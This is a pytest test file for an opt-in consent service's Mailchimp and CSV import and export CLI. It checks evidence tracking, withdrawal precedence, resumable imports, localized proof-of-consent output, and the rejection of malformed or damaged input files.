"""``optin import mailchimp|csv`` and ``optin export``, driven through the CLI from files the
tests generate (a Mailchimp-shaped zip among them)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
import sqlalchemy
from sqlalchemy import func, select

from optin.config import current_settings
from optin.consent import ledger
from optin.consent.addresses import address_hash
from optin.extensions import db
from optin.models import AuditEntry, ConsentEvent, JobState, Subscription, Suppression
from optin.privacy import imports, wording
from optin.privacy.import_rows import ImportRow
from optin.privacy.imports import IMPORTED, KNOWN, SUPPRESSED, WITHDRAWN, Known, decide

from ..conftest import ADMIN_TOKEN, deliver, links
from .test_document import english_left

MC_HEADER = ["Email Address", "First Name", "Last Name", "Company", "MEMBER_RATING", "OPTIN_TIME",
             "OPTIN_IP", "CONFIRM_TIME", "CONFIRM_IP", "LATITUDE", "LONGITUDE", "GMTOFF",
             "DSTOFF", "TIMEZONE", "CC", "REGION", "LAST_CHANGED", "LEID", "EUID", "NOTES"]
MC_UNSUB = ["UNSUB_TIME", "UNSUB_CAMPAIGN_TITLE", "UNSUB_CAMPAIGN_ID", "UNSUB_REASON",
            "UNSUB_REASON_OTHER"]
MC_CLEAN = ["CLEAN_TIME", "CLEAN_CAMPAIGN_TITLE", "CLEAN_CAMPAIGN_ID"]


def mc_csv(rows: list[dict[str, str]], extra: list[str] = (), delimiter: str = ",") -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[*MC_HEADER, *extra], delimiter=delimiter,
                            restval="", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def mc_member(email: str, **values: str) -> dict[str, str]:
    return {"Email Address": email, "First Name": "Ada", "Last Name": "Lovelace",
            "Company": "Analytical", "MEMBER_RATING": "3",
            "OPTIN_TIME": "2021-03-04 10:11:12", "OPTIN_IP": "198.51.100.4",
            "CONFIRM_TIME": "2021-03-04 10:15:00", "CONFIRM_IP": "198.51.100.5",
            "LATITUDE": "52.5", "LONGITUDE": "13.4", "CC": "DE",
            "LAST_CHANGED": "2022-01-01 00:00:00", "LEID": "123", "EUID": "abc", **values}


def mc_zip(path: Path, subscribed: list[dict], unsubscribed: list[dict] = (),
           cleaned: list[dict] = ()) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("subscribed_members_export_4f2a.csv", mc_csv(subscribed))
        archive.writestr("unsubscribed_members_export_4f2a.csv", mc_csv(list(unsubscribed), MC_UNSUB))
        archive.writestr("cleaned_members_export_4f2a.csv", mc_csv(list(cleaned), MC_CLEAN))
    return path


def invoke(runner, *args: str):
    return runner.invoke(args=list(args), catch_exceptions=False)


def subs(app) -> dict[str, Subscription]:
    with app.app_context():
        rows = db.session.scalars(select(Subscription).order_by(Subscription.id)).all()
        db.session.expunge_all()
        return {s.email: s for s in rows}


def events_of(app, sub_id: int) -> list[ConsentEvent]:
    with app.app_context():
        rows = db.session.scalars(select(ConsentEvent).where(ConsentEvent.subscription_id == sub_id)
                                  .order_by(ConsentEvent.seq)).all()
        db.session.expunge_all()
        return rows


def verified(app) -> bool:
    with app.app_context():
        return ledger.verify(db.session()).ok


def counts(app) -> tuple[int, int, int]:
    with app.app_context():
        return (db.session.scalar(select(func.count()).select_from(Subscription)),
                db.session.scalar(select(func.count()).select_from(ConsentEvent)),
                db.session.scalar(select(func.count()).select_from(Suppression)))


def test_mailchimp_zip_imports_consents_withdrawals_and_bounces_with_their_evidence(
        app, runner, newsletter, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "members_export_4f2a.zip",
                  [mc_member("ada@example.org"),
                   mc_member("bob@example.org", CONFIRM_TIME="", CONFIRM_IP="")],
                  unsubscribed=[mc_member("carol@example.org", UNSUB_TIME="2023-05-06 07:08:09",
                                          UNSUB_REASON="too many mails")],
                  cleaned=[mc_member("dave@example.org", CLEAN_TIME="2023-06-01 00:00:00")])
    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter",
                    "--field", "Company=company", "--actor", "ops-anna")
    assert result.exit_code == 0, result.output
    assert "imported (consent with its evidence, marked as imported): 2" in result.output
    assert "withdrawn (withdrawal recorded, address suppressed): 2" in result.output
    found = subs(app)
    ada, bob, carol, dave = (found[f"{n}@example.org"] for n in ("ada", "bob", "carol", "dave"))
    assert (ada.status, ada.imported_from, ada.first_name, ada.fields) == (
        "confirmed", "mailchimp", "Ada", {"company": "Analytical"})
    assert ada.confirmed_at.isoformat() == "2021-03-04T10:15:00+00:00"
    assert carol.status == dave.status == "unsubscribed"
    assert carol.first_name is None and carol.fields is None  # a withdrawal keeps no names
    assert carol.withdrawn_at.isoformat() == "2023-05-06T07:08:09+00:00"
    imported = events_of(app, ada.id)[0]
    assert (imported.kind, imported.origin) == ("consent_imported", "import")
    d = imported.details
    assert d["source"] == "mailchimp" and d["operator"] == "ops-anna"
    assert d["file_sha256"] == __import__("hashlib").sha256(path.read_bytes()).hexdigest()
    assert d["member"] == "subscribed_members_export_4f2a.csv" and d["row"] == 1 and d["line"] == 2
    assert d["evidence"]["signup_time"] == "2021-03-04 10:11:12"  # exactly as given
    assert d["evidence"]["confirm_ip"] == "198.51.100.5"
    assert d["columns"]["signup_time"] == "OPTIN_TIME"
    assert d["extra"]["MEMBER_RATING"] == "3" and "LATITUDE" not in json.dumps(d)
    assert "confirm_time" in events_of(app, bob.id)[0].details["missing"]
    assert "confirm_time" not in d["missing"] and "consent_text" in d["missing"]
    assert "withdrawn_time" not in d["missing"]  # a subscribed row has no withdrawal to miss
    assert [e.kind for e in events_of(app, carol.id)] == ["consent_imported", "unsubscribed"]
    assert [e.kind for e in events_of(app, dave.id)] == ["consent_imported", "bounced"]
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Suppression)) == 2
        assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "import")).actor == "ops-anna"
    assert verified(app)


def test_the_same_file_twice_changes_nothing(app, runner, newsletter, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "export.zip", [mc_member(f"r{i}@example.org") for i in range(30)],
                  unsubscribed=[mc_member("gone@example.org", UNSUB_TIME="2023-01-01 00:00:00")])
    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter",
                  "--batch", "7").exit_code == 0
    before = counts(app)
    second = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter")
    assert second.exit_code == 0
    assert "already known (nothing changed): 31" in second.output
    assert counts(app) == before == (31, 32, 1)
    assert verified(app)


def test_dry_run_counts_and_changes_nothing(app, runner, newsletter, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "subscribed_members_export.csv"
    path.write_text(mc_csv([mc_member("a@example.org"), mc_member("a@example.org"),
                            mc_member("b@example.org")]))
    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter", "--dry-run")
    assert result.exit_code == 0, result.output
    assert "dry run, nothing changed" in result.output
    assert "imported (consent with its evidence, marked as imported): 2" in result.output
    assert "already known (nothing changed): 1" in result.output
    assert counts(app) == (0, 0, 0)


def test_every_bad_row_class_is_reported_with_its_line_and_nothing_stored(
        app, runner, newsletter, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "consents.csv"
    # A BOM, ';' as separator, a quoted newline in a field; lines counted as the file has them.
    path.write_bytes(("\ufeffemail;status;signup_time;signup_ip;consent_text_version;first_name\r\n"
                      "good@example.org;subscribed;2024-01-02 03:04:05;192.0.2.1;1;Grace\r\n"
                      "not-an-address;subscribed;;;;\r\n"
                      "time@example.org;subscribed;yesterday;;;\r\n"
                      "status@example.org;maybe;;;;\r\n"
                      "version@example.org;subscribed;;;9;\r\n"
                      "multi@example.org;subscribed;;;;\"Line one\r\nline two\"\r\n"
                      "extra@example.org;subscribed;;;;x;too;many\r\n").encode())
    report = tmp_path / "rejected.csv"
    result = invoke(runner, "import", "csv", str(path), "--list", "newsletter",
                    "--report", str(report))
    assert result.exit_code == 0, result.output
    assert "imported (consent with its evidence, marked as imported): 2" in result.output
    assert "rejected (see the report file): 5" in result.output
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert [(r["line"], r["reason"].split(":")[0].split(" ")[0]) for r in rows] == [
        ("3", "invalid"), ("4", "unparseable"), ("5", "unknown"), ("6", "unknown"),
        ("9", "malformed")]
    assert "time@example.org" not in report.read_text() and "not-an-address" not in report.read_text()
    found = subs(app)
    assert set(found) == {"good@example.org", "multi@example.org"}
    assert found["multi@example.org"].first_name == "Line one\r\nline two"
    assert found["good@example.org"].consent_text_id is not None
    assert verified(app)


def test_an_import_never_overrides_a_withdrawal_recorded_here(
        app, runner, newsletter, confirmed, client, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    unsubscribe = confirmed("anna@example.org")
    assert client.post(unsubscribe, follow_redirects=True).status_code == 200
    path = tmp_path / "subscribed_members.csv"
    path.write_text(mc_csv([mc_member("anna@example.org", OPTIN_TIME="2030-01-01 00:00:00",
                                      CONFIRM_TIME="2030-01-01 00:00:00")]))
    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter")
    assert "suppressed (withdrew here: not re-added): 1" in result.output
    assert [s.status for s in subs(app).values()] == ["unsubscribed"]


def test_a_newer_withdrawal_in_the_import_wins_over_a_consent_here(
        app, runner, newsletter, confirmed, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    confirmed("anna@example.org")
    # The list says goodbye after an unsubscribe here; a withdrawal made elsewhere is not
    # answered with a mail.
    assert invoke(runner, "lists", "update", "newsletter", "--goodbye").exit_code == 0
    path = tmp_path / "unsubscribed_members.csv"
    path.write_text(mc_csv([mc_member("anna@example.org", UNSUB_TIME="2099-01-01 00:00:00")],
                           MC_UNSUB))
    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter")
    assert "withdrawn (withdrawal recorded, address suppressed): 1" in result.output
    anna = subs(app)["anna@example.org"]
    assert anna.status == "unsubscribed" and anna.withdrawal_origin == "import"
    last = events_of(app, anna.id)[-1]
    assert (last.kind, last.origin, last.details["reported_at"]) == (
        "unsubscribed", "import", "2099-01-01 00:00:00")
    with app.app_context():
        from optin.models import OutboxItem
        assert db.session.scalar(select(func.count()).select_from(OutboxItem)
                                 .where(OutboxItem.kind == "ac_unsubscribe")) == 1
        assert db.session.scalar(select(func.count()).select_from(OutboxItem)
                                 .where(OutboxItem.kind == "goodbye_mail")) == 0
    assert verified(app)


def test_an_older_withdrawal_in_the_import_leaves_a_newer_consent_here(
        app, runner, newsletter, confirmed, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    confirmed("anna@example.org")
    path = tmp_path / "unsubscribed_members.csv"
    path.write_text(mc_csv([mc_member("anna@example.org", UNSUB_TIME="2015-01-01 00:00:00")],
                           MC_UNSUB))
    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter")
    assert "already known (nothing changed): 1" in result.output
    assert subs(app)["anna@example.org"].status == "confirmed"


def _row(status: str, withdrawn: str | None = None) -> ImportRow:
    return ImportRow(member="f.csv", line=2, row=1, email="a@example.org", status=status,
                     evidence={"withdrawn_time": withdrawn}, columns={})


@pytest.mark.parametrize(("row", "known", "suppressed", "expected"), [
    (_row("subscribed"), [], False, IMPORTED),
    (_row("subscribed"), [], True, SUPPRESSED),
    (_row("subscribed"), [Known(1, "unsubscribed", None)], False, SUPPRESSED),
    (_row("subscribed"), [Known(1, "confirmed", None)], False, KNOWN),
    (_row("unsubscribed"), [], False, WITHDRAWN),
    (_row("unsubscribed"), [Known(1, "confirmed", None)], False, WITHDRAWN),  # age unknown: wins
    (_row("unsubscribed", "2020-01-01"), [Known(1, "pending", None)], False, WITHDRAWN),
    (_row("cleaned"), [], True, KNOWN),
])
def test_precedence(row, known, suppressed, expected):
    assert decide(row, known, suppressed)[0] == expected


def test_export_writes_the_generic_columns_and_reimports(
        app, runner, newsletter, confirmed, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    confirmed("native@example.org")
    path = mc_zip(tmp_path / "e.zip", [mc_member("ada@example.org")])
    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter").exit_code == 0
    out = tmp_path / "export.csv"
    result = invoke(runner, "export", "--list", "newsletter", "--output", str(out),
                    "--actor", "ops-bob")
    assert result.exit_code == 0, result.output
    rows = {r["email"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert rows["native@example.org"]["optin_recorded_by"] == "optin"
    assert rows["native@example.org"]["confirm_ip"] == "203.0.113.7"
    assert rows["native@example.org"]["optin_confirm_user_agent"]
    assert rows["ada@example.org"]["optin_recorded_by"] == "import:mailchimp"
    assert rows["ada@example.org"]["signup_time"] == "2021-03-04 10:11:12"
    with app.app_context():
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "export"))
        assert entry.actor == "ops-bob" and entry.details["rows"] == 2
    # The export is an import file: into another list, every row comes in.
    assert invoke(runner, "lists", "create", "other", "--name", "Other").exit_code == 0
    assert invoke(runner, "consent-texts", "add", "other", "--locale", "de",
                  "--text", "Ja, bitte.").exit_code == 0
    again = invoke(runner, "import", "csv", str(out), "--list", "other")
    assert "imported (consent with its evidence, marked as imported): 2" in again.output, again.output


def test_an_interrupted_import_resumes_where_it_stopped(app, runner, newsletter, tmp_path,
                                                        monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "e.zip", [mc_member(f"r{i}@example.org") for i in range(20)])
    from optin.privacy import imports

    calls = {"n": 0}
    original = imports._Writer._save_cursor

    def interrupt(self, summary, done, finished):
        calls["n"] += 1
        if calls["n"] == 3:
            raise KeyboardInterrupt
        return original(self, summary, done, finished)

    monkeypatch.setattr(imports._Writer, "_save_cursor", interrupt)
    first = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter",
                                "--batch", "5"])
    assert first.exit_code == 130
    assert counts(app)[0] == 10  # two batches committed, the third rolled back
    monkeypatch.setattr(imports._Writer, "_save_cursor", original)
    second = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter")
    assert "resuming after row 10" in second.output
    assert "imported (consent with its evidence, marked as imported): 20" in second.output
    assert counts(app)[0] == 20 and verified(app)
    with app.app_context():
        cursors = db.session.scalars(select(JobState).where(JobState.name.startswith("import:")))
        assert [s.value["finished"] for s in cursors] == [True]


def test_the_proof_of_an_imported_consent_says_where_its_evidence_came_from(
        app, runner, newsletter, client, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "e.zip", [mc_member("ada@example.org", CONFIRM_IP="")])
    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter").exit_code == 0
    text = invoke(runner, "proof", "ada@example.org", "--list", "newsletter", "--locale", "en")
    assert text.exit_code == 0, text.output
    flat = " ".join(text.output.split())
    assert flat.startswith("Proof of consent (evidence imported from another system)")
    assert "Evidence imported from Mailchimp on" in flat
    assert "opt-in 2021-03-04 10:11:12 from 198.51.100.4" in flat
    assert "confirmed 2021-03-04 10:15:00. This consent" in flat  # no IP: none is invented
    assert "not recorded by this service (no double opt-in made here)" in flat
    assert "missing in the source" in flat and "confirm_ip" in flat
    answer = client.get("/v1/contacts/proof?email=ada@example.org&list=newsletter",
                        headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    cycle = answer.get_json()["consents"][0]
    assert cycle["imported"]["source"] == "mailchimp" and cycle["confirmation"] is None
    assert cycle["imported"]["evidence"]["confirm_ip"] is None
    page = client.get("/v1/contacts/proof?email=ada@example.org&list=newsletter&locale=en",
                      headers={"Authorization": f"Bearer {ADMIN_TOKEN}",
                               "Accept": "text/html"})
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "Imported consent: evidence from Mailchimp" in html
    assert "OPTIN_TIME" in html and "missing in the source" in html
    assert "opt-in 2021-03-04 10:11:12 from 198.51.100.4" in html


def test_the_proof_of_an_imported_withdrawal_keeps_it_as_proof_not_as_an_unconfirmed_signup(
        app, runner, newsletter, client, tmp_path, monkeypatch):
    """Mailchimp's confirmed-then-unsubscribed member: kept as proof until the limitation
    period ends (retain_until says so), which the proof must not call "withdrawn before
    confirmation" because this service recorded no confirmation of its own."""
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "e.zip", [], [mc_member("ada@example.org",
                                                     UNSUB_TIME="2024-01-01 12:00:00")])
    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter").exit_code == 0
    for locale, kept, wrong in (
            ("de", "Einwilligung widerrufen: der Nachweis wird bis zum Ende der Verjährungsfrist",
             "Vor der Bestätigung widerrufen"),
            ("en", "Consent withdrawn: proof kept until the limitation period ends",
             "Withdrawn before confirmation")):
        text = " ".join(invoke(runner, "proof", "ada@example.org", "--list", "newsletter",
                               "--locale", locale).output.split())
        page = " ".join(client.get(
            f"/v1/contacts/proof?email=ada@example.org&list=newsletter&locale={locale}",
            headers={"Authorization": f"Bearer {ADMIN_TOKEN}", "Accept": "text/html"},
        ).get_data(as_text=True).split())
        for said in (text, page):
            assert kept in said and ("1. Januar 2028" in said or "1 January 2028" in said), locale
            assert wrong not in said, locale


def test_the_proof_of_an_imported_consent_in_german(app, runner, newsletter, client, tmp_path,
                                                    monkeypatch):
    """The list's language (de): the imported-evidence section and the text proof say it in
    German, with no English words of theirs left."""
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "e.zip", [mc_member("ada@example.org", CONFIRM_IP="")])
    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter").exit_code == 0
    page = client.get("/v1/contacts/proof?email=ada@example.org&list=newsletter",
                      headers={"Authorization": f"Bearer {ADMIN_TOKEN}", "Accept": "text/html"})
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and '<html lang="de">' in html
    assert "Importierte Einwilligung: Nachweise aus Mailchimp" in html
    assert "Anmeldung 2021-03-04 10:11:12 von 198.51.100.4" in html
    assert "hier kein Double-Opt-In" in html and "fehlt in der Quelle" in html
    assert "IP-Adresse der Bestätigung (CONFIRM_IP)" in html and "Status in der Quelle" in html
    for english in ("Imported consent", "evidence from", "missing in the source", "Status in the",
                    "SHA-256 of the file", "No published checkpoint", "Signed checkpoint"):
        assert english not in html, english
    assert english_left(re.sub(r"<[^>]+>", " ", html), wording.LABELS, wording.EVENTS) == []
    text = invoke(runner, "proof", "ada@example.org", "--list", "newsletter")
    flat = " ".join(text.output.split())
    assert flat.startswith("Nachweis der Einwilligung (aus einem anderen System importierte")
    assert "Nachweise importiert aus Mailchimp am" in flat and "fehlt in der Quelle" in flat
    for english in ("Proof of consent", "Evidence imported", "missing in the source", "imported by",
                    "Consent cycle", "Ledger:", "events:", "retention"):
        assert english not in flat, english


def test_ctrl_c_in_a_real_import_process_then_the_same_command_resumes(
        app, app_config, newsletter, tmp_path):
    """``optin import`` as a subprocess, sent SIGINT mid-run (as Ctrl-C does), run again."""
    import os
    import signal
    import subprocess
    import sys

    from ..conftest import wait_for

    total = 1500
    path = tmp_path / "subscribed_members_export.csv"
    path.write_text(mc_csv([mc_member(f"reader{i:05}@example.org") for i in range(total)]))
    env = {k: v for k, v in os.environ.items() if not k.startswith("OPTIN_")}
    env.update(app_config, PYTHONPATH=os.getcwd())
    command = [sys.executable, "-m", "optin", "import", "mailchimp", str(path), "--list",
               "newsletter", "--batch", "20"]

    def committed() -> int:
        with app.app_context():
            state = db.session.scalar(select(JobState).where(JobState.name.like("import:%")))
            db.session.rollback()
            return 0 if state is None else int(state.value["done"])

    proc = subprocess.Popen(command, env=env, cwd=tmp_path, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        wait_for(lambda: committed() >= 200, timeout=120)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 130, err[-2000:]
    assert "run the same command again to resume" in err
    stopped = committed()
    assert 200 <= stopped < total and counts(app)[0] == stopped  # what committed, nothing more
    again = subprocess.run(command, env=env, cwd=tmp_path, capture_output=True, text=True,
                           timeout=300)
    assert again.returncode == 0, again.stderr[-2000:]
    assert f"resuming after row {stopped}" in again.stdout
    assert f"imported (consent with its evidence, marked as imported): {total}" in again.stdout
    assert counts(app)[0] == total and verified(app)


def test_a_file_without_an_address_column_is_refused_whole(app, runner, newsletter, tmp_path,
                                                          monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "subscribed_members.csv"
    path.write_text("Mail,OPTIN_TIME\nada@example.org,2021-01-01\n")
    result = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter"])
    assert result.exit_code == 1 and "no address column" in result.output
    latin = tmp_path / "consents.csv"
    latin.write_bytes("email,status,first_name\nj@example.org,subscribed,J\xf6rg\n".encode("latin-1"))
    result = runner.invoke(args=["import", "csv", str(latin), "--list", "newsletter"])
    assert result.exit_code == 1 and "not utf-8-sig text" in result.output
    assert counts(app) == (0, 0, 0)


def test_a_nul_byte_is_dropped_not_fatal(app, runner, newsletter, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "consents.csv"
    path.write_bytes(b"email,status,first_name\nnul@example.org,subscribed,Gr\x00ace\n")
    result = invoke(runner, "import", "csv", str(path), "--list", "newsletter")
    assert "imported (consent with its evidence, marked as imported): 1" in result.output
    assert subs(app)["nul@example.org"].first_name == "Grace" and verified(app)


def test_lists_show_and_stats_count_imported_consents_apart(app, runner, newsletter, client,
                                                            confirmed, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    confirmed("native@example.org")
    path = mc_zip(tmp_path / "e.zip", [mc_member("a@example.org"), mc_member("b@example.org")],
                  unsubscribed=[mc_member("c@example.org", UNSUB_TIME="2023-01-01 00:00:00")])
    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter").exit_code == 0
    shown = invoke(runner, "lists", "show", "newsletter").output
    assert "consents native: confirmed 1" in shown
    assert "consents imported: confirmed 2, unsubscribed 1" in shown
    stats = client.get("/v1/stats", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}).get_json()
    assert stats["consents"]["newsletter"] == {"native": {"confirmed": 1},
                                               "imported": {"confirmed": 2, "unsubscribed": 1}}


def test_unstorable_characters_in_the_evidence_are_dropped_and_the_chain_verifies(
        app, runner, newsletter, tmp_path, monkeypatch):
    """Control characters a database cannot hold are dropped from the evidence as from every
    other stored text, on the COPY path too (its details are serialized once and only walked
    when that text shows one), and the chain covers what is stored."""
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "e.zip", [
        mc_member("ada@example.org", OPTIN_IP="198.51.100.4\x07", LEID="1\x1f2", EUID="a\x7fb",
                  MEMBER_RATING="3\x08", LAST_CHANGED="x\x0cy"),
        mc_member("bob@example.org", LEID="plain \\u0007 text", EUID="back\\slash")])
    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter")
    assert result.exit_code == 0, result.output
    found = subs(app)
    d = events_of(app, found["ada@example.org"].id)[0].details
    assert d["evidence"]["signup_ip"] == "198.51.100.4"
    assert (d["extra"]["LEID"], d["extra"]["EUID"], d["extra"]["MEMBER_RATING"],
            d["extra"]["LAST_CHANGED"]) == ("12", "ab", "3", "xy")
    b = events_of(app, found["bob@example.org"].id)[0].details
    assert (b["extra"]["LEID"], b["extra"]["EUID"]) == ("plain \\u0007 text", "back\\slash")
    assert verified(app)


def test_canonical_ipv4_is_read_as_ipaddress_reads_it():
    """decode_ip's shortcut for dotted quads gives what ipaddress gives, on hostile input."""
    import ipaddress
    import random

    from optin.privacy.import_rows import decode_ip

    def reference(raw: str) -> str | None:
        text = raw.strip()
        if not text or text == "0":
            return None
        try:
            return (str(ipaddress.IPv4Address(int(text))) if text.isdigit()
                    else str(ipaddress.ip_address(text)))
        except ValueError:
            return None

    parts = ["0", "00", "1", "9", "10", "99", "100", "199", "200", "249", "250", "255", "256",
             "300", "01", "010", "\u0663", "1\u0663", "-1", "+1", " 1", ""]
    rng = random.Random(17)
    cases = ["1.2.3.4", " 1.2.3.4\n", "255.255.255.255", "1.2.3.4.", ".1.2.3.4", "1..2.3",
             "::1", "::ffff:1.2.3.4", "3232235777", "1.2.3.4/32", "1.2.3.4\x00"]
    cases += [".".join(rng.choice(parts) for _ in range(rng.choice([3, 4, 4, 4, 5])))
              for _ in range(5000)]
    assert [c for c in cases if decode_ip(c) != reference(c)] == []


def test_the_read_ahead_keeps_order_raises_where_the_source_fails_and_stops_its_reader():
    import threading

    from optin.privacy.import_files import ImportFileError
    from optin.privacy.imports import _read_ahead

    def failing():
        yield from range(1234)
        raise ImportFileError("e.csv is not utf-8-sig text")

    got = []
    with pytest.raises(ImportFileError, match="not utf-8-sig"):
        for item in _read_ahead(failing(), chunk=100, chunks=2):
            got.append(item)
    assert got == list(range(1234))  # every row before the failure, in order

    closed = threading.Event()

    def endless():
        try:
            n = 0
            while True:
                yield n
                n += 1
        finally:
            closed.set()

    items = _read_ahead(endless(), chunk=10, chunks=2)
    assert [next(items) for _ in range(25)] == list(range(25))
    items.close()  # the consumer stops (an error, Ctrl-C): the reader stops and closes the source
    assert closed.is_set()
    assert not [t for t in threading.enumerate() if t.name == "import-reader"]


def test_a_nul_byte_in_an_address_rejects_the_row_not_makes_another_address(
        app, runner, newsletter, tmp_path, monkeypatch):
    """``a\\0b@…`` is not ``ab@…``: dropping the NUL before parsing imported a consent for
    an address nobody gave. The row is rejected; a NUL in a name is still just dropped."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "consents.csv"
    path.write_bytes(b"email,status,first_name\n"
                     b"a\x00b@example.org,subscribed,Ann\n"
                     b"nul@example.org,subscribed,Gr\x00ace\n")
    result = invoke(runner, "import", "csv", str(path), "--list", "newsletter")
    assert "imported (consent with its evidence, marked as imported): 1" in result.output
    assert "rejected (see the report file): 1" in result.output
    assert set(subs(app)) == {"nul@example.org"}
    assert subs(app)["nul@example.org"].first_name == "Grace" and verified(app)


def test_an_unterminated_quote_is_refused_not_swallowing_the_rows_after_it(
        app, runner, newsletter, tmp_path, monkeypatch):
    """An opening quote never closed made the rest of the file one field: the next rows
    vanished into a name (their address in another person's record) and the import said
    it was done. The file is refused as unreadable."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "consents.csv"
    path.write_bytes(b"email,status,first_name\n"
                     b"k@example.org,subscribed,\"unterminated\n"
                     b"l@example.org,subscribed,Lou\n")
    result = runner.invoke(args=["import", "csv", str(path), "--list", "newsletter"])
    assert result.exit_code == 1 and "not a readable CSV" in result.output
    assert "l@example.org" not in {s.first_name for s in subs(app).values()}
    assert counts(app) == (0, 0, 0)


def test_an_unknown_encoding_is_an_error_message_not_a_traceback(app, runner, newsletter,
                                                                tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "consents.csv"
    path.write_text("email,status\nenc@example.org,subscribed\n")
    result = runner.invoke(args=["import", "csv", str(path), "--list", "newsletter",
                                 "--encoding", "no-such-codec"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
    assert "unknown encoding" in result.output and "Traceback" not in result.output
    assert counts(app) == (0, 0, 0)


def _damage(path: Path, how: str) -> None:
    """Make the zip ``path`` (one member, stored) encrypted, compressed by a method zipfile
    lacks, damaged inside its data, or cut short, as a broken download or a hostile file is."""
    data = bytearray(path.read_bytes())
    central = data.find(b"PK\x01\x02")
    if how == "encrypted":
        data[6] |= 1
        data[central + 8] |= 1
    elif how == "unsupported method":
        data[8:10] = data[central + 10:central + 12] = (98).to_bytes(2, "little")  # PPMd
    elif how == "bad crc":
        at = data.find(b"m19@example.org")
        data[at] = ord("n")
    elif how == "cut short":
        data = data[:central - 40] + data[central:]
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("how", ["encrypted", "unsupported method", "bad crc", "cut short"])
def test_a_damaged_or_encrypted_zip_is_refused_with_a_message_not_a_traceback(
        app, runner, newsletter, tmp_path, monkeypatch, how):
    """Each of these ended the import in a traceback (RuntimeError, NotImplementedError,
    BadZipFile, OSError). The file is refused before anything is imported: counting its
    lines reads every byte, so a bad CRC at the end of a member is found first too."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "members_export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("subscribed_members_export.csv",
                         mc_csv([mc_member(f"m{i}@example.org") for i in range(20)]))
    _damage(path, how)
    result = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter",
                                 "--batch", "5"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
    assert "cannot be read" in result.output and "export it again" in result.output
    assert counts(app) == (0, 0, 0)


def test_an_address_that_withdrew_and_consented_again_keeps_its_consent_through_export_and_import(
        app, runner, client, newsletter, confirmed, tmp_path, monkeypatch):
    """The export wrote the withdrawn record first, the import recorded that withdrawal and
    then called the newer consent (confirmed here after it) "suppressed": the subscriber
    was lost on the way to another list or instance."""
    monkeypatch.chdir(tmp_path)
    unsubscribe = confirmed("again@example.org")
    assert client.post(unsubscribe, data={"List-Unsubscribe": "One-Click"}).status_code == 200
    confirmed("again@example.org")
    out = tmp_path / "export.csv"
    result = invoke(runner, "export", "--list", "newsletter", "--output", str(out))
    assert result.exit_code == 0 and "2 subscriptions" in result.output, result.output
    assert invoke(runner, "lists", "create", "other", "--name", "Other").exit_code == 0
    assert invoke(runner, "consent-texts", "add", "other", "--locale", "de",
                  "--text", "Ja, bitte.").exit_code == 0
    again = invoke(runner, "import", "csv", str(out), "--list", "other")
    assert "imported (consent with its evidence, marked as imported): 1" in again.output, again.output
    assert "already known (nothing changed): 1" in again.output
    with app.app_context():
        other = db.session.scalars(select(Subscription)
                                   .where(Subscription.mailing_list.has(slug="other"))).all()
        assert [s.status for s in other] == ["confirmed"]
